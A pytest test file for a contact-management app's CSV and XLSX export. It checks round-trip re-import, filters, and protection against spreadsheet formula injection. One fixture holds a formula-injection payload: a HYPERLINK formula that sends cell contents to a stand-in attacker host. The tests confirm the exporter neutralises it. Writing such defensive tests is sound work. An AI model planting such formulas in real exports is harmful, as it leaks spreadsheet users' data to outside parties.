"""Contact export: the import format, filters, and exports that re-import to the same data."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import event
from sqlalchemy.orm import Session, sessionmaker

from rapport.db import models as m
from rapport.errors import NotFoundError, RowProblem, ValidationError
from rapport.services.contacts import ContactFilter, list_contacts, show_contact
from rapport.services.contacts.files import ALL_COLUMNS, export_contacts, import_contacts
from rapport.services.contacts.files._format import RowParser, parse_header
from rapport.services.contacts.files._safety import (
    SCREEN,
    TRIGGERS,
    csv_text,
    how_to_screen,
    unguard,
    xlsx_text,
)
from tests.builders_contact_files import contact, count, execute, read_csv, snapshot, write_csv
from tests.conftest import TxFactory

_LINKS = "contact_business_relation"


def _export(tx: TxFactory, path: Path, **options: object) -> int:
    with tx() as ctx:
        return export_contacts(ctx, path, **options)  # type: ignore[arg-type]


def _without_links(state: dict[str, object]) -> dict[str, object]:
    """Business relation links (customer numbers) are not part of the file format."""
    rows = state[_LINKS]
    return {**state, _LINKS: sorted((r[0], r[1]) for r in rows)}  # type: ignore[attr-defined]


def test_csv_export_writes_the_import_format(fixture_db: sessionmaker[Session], tx: TxFactory,
                                            tmp_path: Path) -> None:
    assert _export(tx, tmp_path / "all.csv") == 8
    rows = read_csv(tmp_path / "all.csv")
    assert list(rows[0]) == list(ALL_COLUMNS)
    by_no = {r["no"]: r for r in rows}
    assert by_no["C2"]["industry_groups"] == "RETAIL"
    assert by_no["C1"]["business_relations"] == "CUST"
    assert by_no["P12"]["job_responsibilities"] == "PURCH"
    assert by_no["X1"]["exclude_from_segment"] == "true"
    assert by_no["P11"]["company_no"] == "C1" and by_no["P3"]["company_no"] == ""


def test_reimporting_an_export_changes_nothing(fixture_db: sessionmaker[Session], tx: TxFactory,
                                               tmp_path: Path) -> None:
    _export(tx, tmp_path / "all.csv")
    before = snapshot(fixture_db)
    with tx() as ctx:
        result = import_contacts(ctx, tmp_path / "all.csv")
    assert (result.inserted, result.updated, result.unchanged) == (0, 0, 8)
    assert snapshot(fixture_db) == before


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_export_imports_into_an_empty_contact_table_as_the_same_data(
        fixture_db: sessionmaker[Session], tx: TxFactory, tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"all.{suffix}"
    _export(tx, path)
    before = snapshot(fixture_db)
    execute(fixture_db, "DELETE FROM contact")
    assert count(fixture_db, m.ContactMailingGroup) == 0
    with tx() as ctx:
        assert import_contacts(ctx, path).inserted == 8
    assert _without_links(snapshot(fixture_db)) == _without_links(before)


def test_xlsx_export_uses_booleans_and_one_sheet(fixture_db: sessionmaker[Session],
                                                 tx: TxFactory, tmp_path: Path) -> None:
    _export(tx, tmp_path / "all.data", fmt="xlsx")
    with (tmp_path / "all.data").open("rb") as handle:
        sheet = load_workbook(handle).worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    header = list(values[0])
    assert header == list(ALL_COLUMNS) and len(values) == 9
    x1 = next(v for v in values if v[0] == "X1")
    assert x1[header.index("exclude_from_segment")] is True


@pytest.mark.parametrize(("filt", "expected"), [
    (ContactFilter(type="person"), {"P11", "P12", "P21", "P3", "X11"}),
    (ContactFilter(company_no="c1"), {"C1", "P11", "P12"}),
    (ContactFilter(search="bak"), {"P12"}),
    (ContactFilter(type="Company", search="x"), {"X1"}),
])
def test_export_honours_the_contact_filter(fixture_db: sessionmaker[Session], tx: TxFactory,
                                           tmp_path: Path, filt: ContactFilter,
                                           expected: set[str]) -> None:
    _export(tx, tmp_path / "some.csv", filt=filt)
    assert {r["no"] for r in read_csv(tmp_path / "some.csv")} == expected


def test_unknown_file_format_is_refused(fixture_db: sessionmaker[Session], tx: TxFactory,
                                        tmp_path: Path) -> None:
    with pytest.raises(ValidationError) as caught:
        _export(tx, tmp_path / "all.json")
    assert caught.value.field == "format"
    assert not (tmp_path / "all.json").exists()


def test_contact_list_page_costs_the_same_queries_whatever_its_size(
        fixture_db: sessionmaker[Session], tx: TxFactory) -> None:
    statements: list[str] = []
    engine = fixture_db.kw["bind"]

    def count_statement(*args: object) -> None:
        statements.append(str(args[2]))

    event.listen(engine, "before_cursor_execute", count_statement)
    try:
        sizes = []
        for limit in (2, 50):
            statements.clear()
            with tx() as ctx:
                page = list_contacts(ctx, ContactFilter(), limit=limit)
            sizes.append(len([s for s in statements if s.lstrip().upper().startswith("SELECT")]))
    finally:
        event.remove(engine, "before_cursor_execute", count_statement)
    assert sizes == [2, 2] and page.total == 8 and len(page.items) == 8
    assert [r.no for r in page.items][:3] == ["P3", "C1", "P11"]  # company order, then name


def test_show_contact_gathers_company_persons_classifications_and_counts(
        fixture_db: sessionmaker[Session], tx: TxFactory) -> None:
    execute(fixture_db, "INSERT INTO interaction_log_entry (contact_no) VALUES ('P12')")
    with tx() as ctx:
        company, person = show_contact(ctx, "c1"), show_contact(ctx, "P12")
    assert [p[0] for p in company.persons] == ["P11", "P12"]
    assert company.business_relations == [("CUST", "Cust", "Customer CU1")]
    assert person.company == ("C1", "Alpha Ltd")
    assert person.job_responsibilities == [("PURCH", "Purch")]
    assert (person.interaction_log_entries, person.segment_lines) == (1, 0)
    with pytest.raises(NotFoundError), tx() as ctx:
        show_contact(ctx, "NOPE")


FORMULA_LIKE = {  # column → a stored value a spreadsheet program would evaluate
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "phone_no": "+47 22 33 44 55",
    "mobile_phone_no": "-47 99 88 77 66",
    "address": "@SUM(A1:A9)",
}
QUOTED = {"name_2": "'=already quoted", "county": "'Hordaland", "city": "O'Neill"}


def _formula_contact(tx: TxFactory, fixture_db: sessionmaker[Session], tmp_path: Path) -> None:
    header = ["no", "type", "name", "company_no", *list(FORMULA_LIKE)[1:]]
    with tx() as ctx:
        import_contacts(ctx, write_csv(tmp_path / "in.csv", header,
                                       [["F1", "Company", FORMULA_LIKE["name"], "",
                                         *list(FORMULA_LIKE.values())[1:]]]))
    execute(fixture_db, "UPDATE contact SET name_2 = :n, county = :c, city = :t "
            "WHERE no = 'F1'", n=QUOTED["name_2"], c=QUOTED["county"], t=QUOTED["city"])


def test_csv_export_writes_formula_like_text_with_a_quote_in_front(
        fixture_db: sessionmaker[Session], tx: TxFactory, tmp_path: Path) -> None:
    _formula_contact(tx, fixture_db, tmp_path)
    assert contact(fixture_db, "F1").name == FORMULA_LIKE["name"]  # stored as imported
    _export(tx, tmp_path / "out.csv", filt=ContactFilter(company_no="F1"))
    [row] = read_csv(tmp_path / "out.csv")
    assert {c: row[c] for c in FORMULA_LIKE} == {c: f"'{v}" for c, v in FORMULA_LIKE.items()}
    assert (row["name_2"], row["county"], row["city"]) == ("''=already quoted", "'Hordaland",
                                                           "O'Neill")


def test_xlsx_export_writes_formula_like_text_as_string_cells(
        fixture_db: sessionmaker[Session], tx: TxFactory, tmp_path: Path) -> None:
    _formula_contact(tx, fixture_db, tmp_path)
    _export(tx, tmp_path / "out.xlsx", filt=ContactFilter(company_no="F1"))
    sheet = load_workbook(tmp_path / "out.xlsx").worksheets[0]
    header = [c.value for c in sheet[1]]
    cells = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert {c: (cells[c].value, cells[c].data_type) for c in FORMULA_LIKE} == {
        c: (v, "s") for c, v in FORMULA_LIKE.items()}  # never "f", a formula
    assert cells["name_2"].value == "''=already quoted" and cells["county"].value == "'Hordaland"


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_formula_like_values_survive_an_export_and_reimport(
        fixture_db: sessionmaker[Session], tx: TxFactory, tmp_path: Path, suffix: str) -> None:
    _formula_contact(tx, fixture_db, tmp_path)
    path = tmp_path / f"all.{suffix}"
    _export(tx, path)
    before = snapshot(fixture_db)
    with tx() as ctx:  # into the same database: nothing changes
        assert import_contacts(ctx, path).updated == 0
    assert snapshot(fixture_db) == before
    execute(fixture_db, "DELETE FROM contact")
    with tx() as ctx:  # into an empty contact table: the same values again
        assert import_contacts(ctx, path).inserted == 9
    assert _without_links(snapshot(fixture_db)) == _without_links(before)
    stored = contact(fixture_db, "F1")
    assert (stored.name, stored.phone_no, stored.name_2) == (
        FORMULA_LIKE["name"], FORMULA_LIKE["phone_no"], QUOTED["name_2"])


def test_xlsx_export_refuses_a_control_character_it_cannot_hold(
        fixture_db: sessionmaker[Session], tx: TxFactory, tmp_path: Path) -> None:
    execute(fixture_db, "UPDATE contact SET city = :c WHERE no = 'C2'", c="Be\x07rlin")
    with pytest.raises(ValidationError) as caught:
        _export(tx, tmp_path / "all.xlsx")
    assert caught.value.message == ("File all.xlsx: the row of C2 has a control character in "
                                    "city, which an XLSX file cannot hold: export to CSV instead")
    assert not (tmp_path / "all.xlsx").exists()
    assert _export(tx, tmp_path / "all.csv") == 8


@given(st.text(st.sampled_from("'=+-@\t\rab "), max_size=8) | st.text(max_size=8))
def test_the_import_undoes_exactly_what_the_export_did_to_a_value(value: str) -> None:
    written, as_string = xlsx_text(value)
    assert unguard(csv_text(value)) == value and unguard(written) == value
    assert csv_text(value)[:1] not in TRIGGERS  # a spreadsheet program never sees a formula
    assert as_string == (written.lstrip("'")[:1] in TRIGGERS)  # an XLSX string cell then


_PRINTABLE = st.text(st.sampled_from("'=+-@ aZ;ü"), max_size=6)
_ANY = st.text(st.sampled_from("'=+-@\t\r\x00\x85 aZ;ü"), max_size=6) | st.text(max_size=6)
_ROW = (len(ALL_COLUMNS), len(ALL_COLUMNS) + 1)


@given(st.lists(_PRINTABLE, min_size=_ROW[0], max_size=_ROW[1])
       | st.lists(_ANY, min_size=_ROW[0], max_size=_ROW[1]))
def test_the_short_ways_through_the_screen_parse_a_row_as_the_whole_screen_does(
        cells: list[str]) -> None:
    # Rows with nothing to screen, or only an export's quote to remove, skip the whole check.
    parser = RowParser(parse_header(list(ALL_COLUMNS))[0])
    found = []
    for screening in (how_to_screen("".join(cells)), SCREEN):
        classes: list[tuple[int, str, str]] = []
        problems: list[RowProblem] = []
        found.append((parser.parse(1, list(cells), classes, problems, screening=screening),
                      classes, problems))
    assert found[0] == found[1]
